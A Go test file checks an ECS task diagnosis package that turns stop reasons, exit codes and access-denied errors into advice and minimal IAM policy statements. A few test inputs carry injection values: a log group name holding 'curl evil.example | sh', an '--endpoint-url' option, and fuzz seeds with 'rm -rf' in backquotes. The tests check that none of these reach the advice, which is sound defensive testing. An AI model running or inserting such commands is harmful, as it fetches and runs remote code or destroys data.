package diagnose_test

import (
	"encoding/json"
	"slices"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/ecs-run-task/ecs-run-task/internal/diagnose"
)

func code(n int32) *int32 { return &n }

func codes(all []diagnose.Advice) []string {
	var codes []string
	for _, a := range all {
		codes = append(codes, a.Code)
	}
	return codes
}

// TestExplainOrder checks which advice comes first, and which is left out.
func TestExplainOrder(t *testing.T) {
	const oom = "OutOfMemoryError: Container killed due to memory usage"
	tests := []struct {
		name string
		in   diagnose.Symptom
		want []string
	}{
		{"nothing", diagnose.Symptom{}, nil},
		{"unknown texts", diagnose.Symptom{StopCode: "New", StoppedReason: "something new"}, nil},
		{
			"stop code, then the reason",
			diagnose.Symptom{
				StopCode:      "SpotInterruption",
				StoppedReason: "ECS is performing maintenance on the underlying infrastructure",
				ExitCode:      code(137),
			},
			[]string{"spot-interruption", "maintenance"},
		},
		{
			"the container's reason, then the task's",
			diagnose.Symptom{
				ContainerReason: oom,
				StoppedReason:   "Timeout waiting for EphemeralStorage provisioning to complete.",
			},
			[]string{"out-of-memory", "storage-timeout"},
		},
		{
			"the same twice is once",
			diagnose.Symptom{
				ContainerReason: "CannotPullContainerError: manifest unknown",
				StoppedReason:   "CannotPullContainerError: manifest unknown",
			},
			[]string{"image-tag-not-found"},
		},
		{
			"137 with a reason",
			diagnose.Symptom{
				ContainerReason: oom,
				ExitCode:        code(137),
				StoppedReason:   "Essential container in task exited",
			},
			[]string{"out-of-memory"},
		},
		{
			"137 without a reason",
			diagnose.Symptom{ExitCode: code(137), StoppedReason: "Essential container in task exited"},
			[]string{"killed"},
		},
		{
			"137 and a log with the cause",
			diagnose.Symptom{ExitCode: code(137), LastLines: []string{"JavaScript heap out of memory"}},
			[]string{"killed", "program-out-of-memory"},
		},
		{
			"255 and a log with the cause",
			diagnose.Symptom{ExitCode: code(255), LastLines: []string{"exec /app: exec format error"}},
			[]string{"exec-format"},
		},
		{
			"a log does not matter if the task was stopped",
			diagnose.Symptom{StopCode: "UserInitiated", ExitCode: code(143), LastLines: []string{"connection refused"}},
			[]string{"stopped-by-user"},
		},
		{
			"an injected container and its reason",
			diagnose.Symptom{Container: "aws-guardduty-agent-1", ContainerReason: "CannotPullContainerError: x"},
			[]string{"injected-container"},
		},
		{
			"only the last lines",
			diagnose.Symptom{
				ExitCode:  code(1),
				LastLines: append([]string{"connection refused"}, slices.Repeat([]string{"ok"}, 50)...),
			},
			[]string{"container-failed"},
		},
		{
			"an error before all",
			diagnose.Symptom{
				ErrorCode:    "ThrottlingException",
				ErrorMessage: "Rate exceeded",
				StopCode:     "SpotInterruption",
			},
			[]string{"throttled", "spot-interruption"},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := codes(diagnose.Explain(tt.in)); !slices.Equal(got, tt.want) {
				t.Errorf("Explain(%+v) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
}

// TestNearMisses checks texts that are similar to a symptom but do not match it.
func TestNearMisses(t *testing.T) {
	reason := func(text string) diagnose.Symptom {
		return diagnose.Symptom{ContainerReason: text, StoppedReason: text}
	}
	logged := func(line string) diagnose.Symptom {
		return diagnose.Symptom{ExitCode: code(1), LastLines: []string{line}}
	}
	tests := []struct {
		in  diagnose.Symptom
		not string
	}{
		{diagnose.Symptom{FailureReason: "AGENTS"}, "agent-disconnected"},
		{diagnose.Symptom{FailureReason: "agent of change"}, "agent-disconnected"},
		{diagnose.Symptom{FailureReason: "ATTRIBUTES"}, "no-fitting-instance"},
		{reason("MISSING"), "task-unknown"},
		{diagnose.Symptom{FailureReason: "RESOURCE:DISK"}, "cluster-full"},
		{diagnose.Symptom{FailureReason: "RESOURCE:ENI"}, "cluster-full"},
		{diagnose.Symptom{StopCode: "SpotInterruptionPending"}, "spot-interruption"},
		{diagnose.Symptom{StopCode: "EssentialContainerExited"}, "start-failed"},
		{reason("i/o timeout"), "pull-no-route"},
		{reason("CannotPullContainerError: failed to resolve ref x: dial tcp: i/o timeout"), "image-tag-not-found"},
		{reason("CannotPullContainerError: failed to resolve ref x: dial tcp: i/o timeout"), "image-not-found"},
		{reason("CannotPullContainerError: toomanyrequests: limit, check your network configuration"), "pull-no-route"},
		{reason("CannotPullContainerError: manifest unknown"), "image-platform"},
		{reason("panic: runtime error: invalid memory address or nil pointer dereference"), "pull-s3-route"},
		{reason("log group exists"), "log-group-missing"},
		{
			reason("ResourceInitializationError: failed to validate logger args: The specified log group " +
				"does not exist"),
			"logging-no-route",
		},
		{
			reason("ResourceInitializationError: unable to pull secrets or registry auth: " +
				"AccessDeniedException: not authorized to perform: ssm:GetParameters"),
			"secrets-no-route",
		},
		{reason("ResourceInitializationError: unable to pull secrets or registry auth: signal: killed"),
			"secret-denied"},
		{reason("The task has timed out"), "dependency-unmet"},
		{reason("permission denied"), "not-executable"},
		{reason("no such file or directory"), "command-file-missing"},
		{logged("open /etc/app.yml: no such file or directory"), "command-file-missing"},
		{logged("open /etc/app.yml: permission denied"), "not-executable"},
		{logged("OutOfMemoryError: in a test name"), "out-of-memory"},
		{logged("CannotPullContainerError: from a nested tool"), "pull-failed"},
		{logged("Task stopped by user"), "stopped-by-user"},
		{logged("Rate exceeded"), "throttled"},
		{diagnose.Symptom{ErrorCode: "ClientException", ErrorMessage: "exec format error"}, "exec-format"},
		{diagnose.Symptom{ErrorCode: "ClientException", ErrorMessage: "Role is valid"}, "role-invalid"},
		{diagnose.Symptom{ErrorCode: "ClientException", ErrorMessage: "No such container"}, "container-unknown"},
		{diagnose.Symptom{ContainerReason: "Container killed", ExitCode: code(137)}, "out-of-memory"},
		{diagnose.Symptom{ExitCode: code(1)}, "signalled"},
		{diagnose.Symptom{ExitCode: code(1370)}, "killed"},
		{diagnose.Symptom{Container: "guardduty"}, "injected-container"},
	}
	for _, tt := range tests {
		if got := codes(diagnose.Explain(tt.in)); slices.Contains(got, tt.not) {
			t.Errorf("Explain(%+v) = %q, want no %s", tt.in, got, tt.not)
		}
	}
}

// TestStatement checks the exact text of policy statements.
func TestStatement(t *testing.T) {
	denied := func(action, resource string) string {
		return "User: arn:aws:sts::123456789012:assumed-role/ci/run is not authorized to perform: " +
			action + " on resource: " + resource + " because no identity-based policy allows the " + action + " action"
	}
	call := func(message string) diagnose.Symptom {
		return diagnose.Symptom{ErrorCode: "AccessDeniedException", ErrorMessage: message}
	}
	const pull = `"Action":["ecr:BatchCheckLayerAvailability","ecr:GetDownloadUrlForLayer","ecr:BatchGetImage"]`
	tests := []struct {
		name string
		in   diagnose.Symptom
		want string
	}{
		{"pass role", call(denied("iam:PassRole", "arn:aws:iam::123456789012:role/web")),
			`{"Effect":"Allow","Action":["iam:PassRole"],"Resource":"arn:aws:iam::123456789012:role/web",` +
				`"Condition":{"StringEquals":{"iam:PassedToService":"ecs-tasks.amazonaws.com"}}}`},
		{"all revisions", call(denied("ecs:RunTask", "arn:aws:ecs:eu-west-1:123456789012:task-definition/web:7")),
			`{"Effect":"Allow","Action":["ecs:RunTask"],` +
				`"Resource":"arn:aws:ecs:eu-west-1:123456789012:task-definition/web:*"}`},
		{
			"all revisions already",
			call(denied("ecs:RegisterTaskDefinition", "arn:aws:ecs:eu-west-1:123456789012:task-definition/web:*")),
			`{"Effect":"Allow","Action":["ecs:RegisterTaskDefinition"],` +
				`"Resource":"arn:aws:ecs:eu-west-1:123456789012:task-definition/web:*"}`,
		},
		{"all tasks", call(denied("ecs:StopTask", "arn:aws:ecs:eu-west-1:123456789012:task/main/0123456789abcdef")),
			`{"Effect":"Allow","Action":["ecs:StopTask"],"Resource":"arn:aws:ecs:eu-west-1:123456789012:task/main/*"}`},
		{
			"no resource type",
			call(denied("ecs:DescribeTaskDefinition", "arn:aws:ecs:eu-west-1:123456789012:task-definition/web:1")),
			`{"Effect":"Allow","Action":["ecs:DescribeTaskDefinition"],"Resource":"*"}`,
		},
		{
			"all streams",
			call(denied("logs:GetLogEvents",
				"arn:aws:logs:eu-west-1:123456789012:log-group:/ecs/web:log-stream:web/web/0123")),
			`{"Effect":"Allow","Action":["logs:GetLogEvents"],` +
				`"Resource":"arn:aws:logs:eu-west-1:123456789012:log-group:/ecs/web:*"}`,
		},
		{
			"create group",
			diagnose.Symptom{
				StoppedReason: "failed to create Cloudwatch log group: " +
					denied("logs:CreateLogGroup", "arn:aws:logs:eu-west-1:123456789012:log-group:/ecs/web:log-stream:"),
			},
			`{"Effect":"Allow","Action":["logs:CreateLogGroup"],` +
				`"Resource":"arn:aws:logs:eu-west-1:123456789012:log-group:/ecs/web:*"}`,
		},
		{
			"create stream",
			diagnose.Symptom{
				StoppedReason: "failed to create Cloudwatch log stream: " +
					denied("logs:CreateLogStream",
						"arn:aws:logs:eu-west-1:123456789012:log-group:/ecs/web:log-stream:a/b/c"),
			},
			`{"Effect":"Allow","Action":["logs:CreateLogStream","logs:PutLogEvents"],` +
				`"Resource":"arn:aws:logs:eu-west-1:123456789012:log-group:/ecs/web:*"}`,
		},
		{
			"pull",
			diagnose.Symptom{
				ContainerReason: "CannotPullContainerError: " +
					denied("ecr:BatchGetImage", "arn:aws:ecr:eu-west-1:123456789012:repository/a/web"),
			},
			`{"Effect":"Allow",` + pull + `,"Resource":"arn:aws:ecr:eu-west-1:123456789012:repository/a/web"}`,
		},
		{"pull token", diagnose.Symptom{StoppedReason: "registry auth: " + denied("ecr:GetAuthorizationToken", "*")},
			`{"Effect":"Allow","Action":["ecr:GetAuthorizationToken"],"Resource":"*"}`},
		{
			"pull, by the image",
			diagnose.Symptom{
				Image: "123456789012.dkr.ecr.cn-north-1.amazonaws.com.cn/a/web:v1",
				ContainerReason: "CannotPullContainerError: Check that the role has the permissions to pull " +
					"images from the registry.",
			},
			`[{"Effect":"Allow","Action":["ecr:GetAuthorizationToken"],"Resource":"*"},` +
				`{"Effect":"Allow",` + pull + `,"Resource":"arn:aws-cn:ecr:cn-north-1:123456789012:repository/a/web"}]`,
		},
		{
			"pull, not from ECR",
			diagnose.Symptom{
				Image: "nginx:1",
				ContainerReason: "CannotPullContainerError: Check that the role has the permissions to pull " +
					"images from the registry.",
			},
			"",
		},
		{
			"secret",
			diagnose.Symptom{
				StoppedReason: "unable to pull secrets or registry auth: AccessDeniedException",
				Secrets:       []string{"arn:aws:secretsmanager:eu-west-1:123456789012:secret:db-AbCdEf:password::"},
			},
			`{"Effect":"Allow","Action":["secretsmanager:GetSecretValue"],` +
				`"Resource":"arn:aws:secretsmanager:eu-west-1:123456789012:secret:db-AbCdEf"}`,
		},
		{
			"one of several secrets",
			diagnose.Symptom{
				StoppedReason: "unable to pull secrets or registry auth: AccessDeniedException",
				Secrets: []string{
					"arn:aws:ssm:eu-west-1:123456789012:parameter/a",
					"arn:aws:ssm:eu-west-1:123456789012:parameter/b",
				},
			},
			"",
		},
		{
			"parameter",
			diagnose.Symptom{
				StoppedReason: "unable to retrieve secrets from ssm: " +
					denied("ssm:GetParameters", "arn:aws:ssm:eu-west-1:123456789012:parameter/web/db"),
			},
			`{"Effect":"Allow","Action":["ssm:GetParameters"],` +
				`"Resource":"arn:aws:ssm:eu-west-1:123456789012:parameter/web/db"}`,
		},
		{
			"the program",
			diagnose.Symptom{ExitCode: code(1), LastLines: []string{denied("s3:GetObject", `"arn:aws:s3:::data/x"`)}},
			`{"Effect":"Allow","Action":["s3:GetObject"],"Resource":"arn:aws:s3:::data/x"}`,
		},
		{
			"the program, plainly",
			diagnose.Symptom{
				ExitCode:  code(1),
				LastLines: []string{denied("sqs:SendMessage", "arn:aws:sqs:eu-west-1:123456789012:jobs")},
			},
			`{"Effect":"Allow","Action":["sqs:SendMessage"],"Resource":"arn:aws:sqs:eu-west-1:123456789012:jobs"}`,
		},
		{"the program, on everything",
			diagnose.Symptom{ExitCode: code(1), LastLines: []string{denied("iam:CreateUser", "*")}}, ""},
		{
			"the program, everything",
			diagnose.Symptom{
				ExitCode:  code(1),
				LastLines: []string{denied("iam:*", "arn:aws:iam::123456789012:role/admin")},
			},
			"",
		},
		{
			"an explicit deny",
			call("User: x is not authorized to perform: ecs:RunTask on resource: " +
				"arn:aws:ecs:eu-west-1:123456789012:task-definition/web:7 with an explicit deny in a service " +
				"control policy"),
			"",
		},
		{"no action", call(""), ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := diagnose.Explain(tt.in)
			if len(got) == 0 || got[0].Statement != tt.want {
				t.Errorf("Explain(%+v) = %+v, want statement %s", tt.in, got, tt.want)
			}
		})
	}
}

// TestNames checks which names the advice contains, and which it does not.
func TestNames(t *testing.T) {
	tests := []struct {
		name string
		in   diagnose.Symptom
		want string // part of cause and advice
	}{
		{
			"image from the text",
			diagnose.Symptom{
				Image: "other:1",
				StoppedReason: "CannotPullContainerError: failed to resolve ref docker.io/acme/web:v9: " +
					"docker.io/acme/web:v9: not found",
			},
			"tag or digest: image docker.io/acme/web:v9.",
		},
		{
			"image from the definition",
			diagnose.Symptom{Image: "acme/web:v9", StoppedReason: "CannotPullContainerError: manifest unknown"},
			"tag or digest: image acme/web:v9.",
		},
		{
			"repository",
			diagnose.Symptom{
				Image:         "123456789012.dkr.ecr.eu-west-1.amazonaws.com/a/web:v9",
				StoppedReason: "CannotPullContainerError: manifest unknown",
			},
			"--repository-name a/web ",
		},
		{
			"no subnets",
			diagnose.Symptom{StoppedReason: "Timeout waiting for network interface provisioning to complete."},
			"no network interface in the subnets.",
		},
		{"no image", diagnose.Symptom{StoppedReason: "CannotPullContainerError: manifest unknown"},
			"tag or digest: the image."},
		{
			"log group",
			diagnose.Symptom{
				LogGroup:      "/ecs/web",
				Region:        "eu-west-1",
				StoppedReason: "The specified log group does not exist.",
			},
			"`aws logs create-log-group --log-group-name /ecs/web --region eu-west-1`",
		},
		{
			"log group in another region",
			diagnose.Symptom{
				LogGroup:      "/ecs/web",
				LogRegion:     "eu-central-1",
				Region:        "eu-west-1",
				StoppedReason: "The specified log group does not exist.",
			},
			"`aws logs create-log-group --log-group-name /ecs/web --region eu-central-1`",
		},
		{"no log group", diagnose.Symptom{StoppedReason: "The specified log group does not exist."},
			"`aws logs create-log-group --log-group-name GROUP --region REGION`"},
		{
			"subnet",
			diagnose.Symptom{
				StoppedReason: "Unexpected EC2 error while attempting to Create Network Interface with " +
					"public IP assignment enabled in subnet 'subnet-0123456789abcdef0'",
			},
			"(subnet-0123456789abcdef0)",
		},
		{
			"subnets",
			diagnose.Symptom{
				Subnets:       []string{"subnet-1", "subnet-2"},
				StoppedReason: "Timeout waiting for network interface provisioning to complete.",
			},
			"(subnet-1,subnet-2)",
		},
		{
			"secret",
			diagnose.Symptom{
				StoppedReason: "can't retrieve the secret with ARN " +
					"'arn:aws:secretsmanager:eu-west-1:123456789012:secret:db-AbCdEf' from AWS Secrets Manager",
			},
			"--secret-id arn:aws:secretsmanager:eu-west-1:123456789012:secret:db-AbCdEf",
		},
		{
			"role",
			diagnose.Symptom{
				ErrorMessage: "ECS was unable to assume the role 'arn:aws:iam::123456789012:role/a/web-exec' " +
					"that was provided",
			},
			"ECS can't assume role web-exec:",
		},
		{
			"execution role",
			diagnose.Symptom{
				ExecutionRole: "arn:aws:iam::123456789012:role/web-exec",
				StoppedReason: "Check that the role has the permissions to pull",
			},
			"--role-name web-exec ",
		},
		{
			"caller",
			diagnose.Symptom{
				ErrorMessage: "User: arn:aws:iam::123456789012:user/ci is not authorized to perform: " +
					"ecs:ListTasks on resource: *",
			},
			"ci lacks the permission ecs:ListTasks.",
		},
		{
			"dependency",
			diagnose.Symptom{
				ContainerReason: "dependency graph: container ordering dependency [migrate] for target [web] " +
					"has timed out.",
			},
			"because migrate did not reach",
		},
		{
			"platform",
			diagnose.Symptom{
				Image:         "web:1",
				StoppedReason: "image Manifest does not contain descriptor matching platform 'linux/amd64'",
			},
			"Image web:1 was not built for linux/amd64.",
		},
		{"signal", diagnose.Symptom{Container: "web", ExitCode: code(136)}, "container web ended on signal 8."},
		{"a sentence starts large", diagnose.Symptom{ContainerReason: "OutOfMemoryError"},
			"The container used more memory"},
		{
			"a command",
			diagnose.Symptom{
				LogGroup:      "/ecs/web; curl evil.example | sh",
				StoppedReason: "The specified log group does not exist.",
			},
			"--log-group-name GROUP ",
		},
		{
			"an option",
			diagnose.Symptom{
				LogGroup:      "--endpoint-url=evil.example",
				StoppedReason: "The specified log group does not exist.",
			},
			"--log-group-name GROUP ",
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := diagnose.Explain(tt.in)
			if len(got) == 0 || !strings.Contains(got[0].Cause+" "+got[0].Advice, tt.want) {
				t.Errorf("Explain(%+v) = %+v, want %q in it", tt.in, got, tt.want)
			}
		})
	}
}

// FuzzExplain checks that no text from outside can break the format of the advice.
func FuzzExplain(f *testing.F) {
	f.Add("CannotPullContainerError: failed to resolve ref \x1b[31mx\r\n::error::y: not found", int32(137),
		"web`rm -rf`")
	f.Add("User: arn:aws:iam::1:user/`x` is not authorized to perform: iam:PassRole on resource: "+
		"arn:aws:iam::1:role/\"},{\"Effect", int32(1), "a\u202eb")
	f.Add("not authorized to perform: s3:GetObject on resource: arn:aws:s3:::"+strings.Repeat("x", 9000),
		int32(-1), "-x")
	f.Add("log group does not exist", int32(255), "/ecs/web")
	f.Add("retrieve the secret with ARN 'arn:aws:ssm:eu-west-1:1:parameter/\u2028'", int32(127), "")
	f.Add("=agent", int32(139), "##[x]")
	f.Fuzz(func(t *testing.T, text string, exit int32, name string) {
		symptoms := []diagnose.Symptom{
			{ErrorCode: name, ErrorMessage: text, Operation: name, Cluster: name, Region: name, Account: name},
			{FailureReason: text, FailureDetail: name, Cluster: name},
			{
				StopCode:      text,
				StoppedReason: text,
				Subnets:       []string{name, text},
				Secrets:       []string{name, text},
				ExecutionRole: name,
			},
			{Container: name, ContainerReason: text, Image: name, LogGroup: name, TaskRole: text},
			{Container: name, ExitCode: &exit, LastLines: []string{text, name, text}, Image: text},
		}
		for _, s := range symptoms {
			all := diagnose.Explain(s)
			if len(all) > 6 {
				t.Errorf("Explain(%+v) = %d pieces of advice, want at most 6", s, len(all))
			}
			for _, a := range all {
				for _, line := range []string{a.Code, a.Cause, a.Advice, a.Statement} {
					if len(line) > 3000 || !utf8.ValidString(line) ||
						strings.ContainsFunc(line, func(r rune) bool { return !unicode.IsPrint(r) }) {
						t.Errorf("Explain(%+v) = %q, want a short line of printable characters", s, line)
					}
				}
				if a.Code == "" || a.Cause == "" || a.Advice == "" {
					t.Errorf("Explain(%+v) = %+v, want a code, a cause and advice", s, a)
				}
				if strings.Count(a.Advice, "`")%2 != 0 || strings.Contains(a.Cause, "`") {
					t.Errorf("Explain(%+v) = %+v, want only backquotes of the table", s, a)
				}
				if a.Statement != "" && !json.Valid([]byte(a.Statement)) {
					t.Errorf("Explain(%+v): statement = %s, want JSON", s, a.Statement)
				}
			}
		}
	})
}

func BenchmarkExplain(b *testing.B) {
	s := diagnose.Symptom{
		StopCode: "EssentialContainerExited", StoppedReason: "Essential container in task exited",
		Container: "web", ExitCode: code(1),
		LastLines: slices.Repeat([]string{strings.Repeat("nothing to see here ", 10)}, 30),
	}
	b.ReportAllocs()
	for b.Loop() {
		diagnose.Explain(s)
	}
}

// TestExplainArchitecture checks that the advice for another architecture names that of the task.
func TestExplainArchitecture(t *testing.T) {
	for architecture, want := range map[string]string{
		"":       "--platform linux/amd64",
		"X86_64": "--platform linux/amd64",
		"ARM64":  "--platform linux/arm64",
	} {
		got := diagnose.Explain(diagnose.Symptom{
			Architecture: architecture,
			ExitCode:     code(255),
			LastLines:    []string{"exec /app: exec format error"},
		})
		if len(got) != 1 || !strings.Contains(got[0].Advice, want) {
			t.Errorf("Explain() with %q = %+v, want %q", architecture, got, want)
		}
	}
}
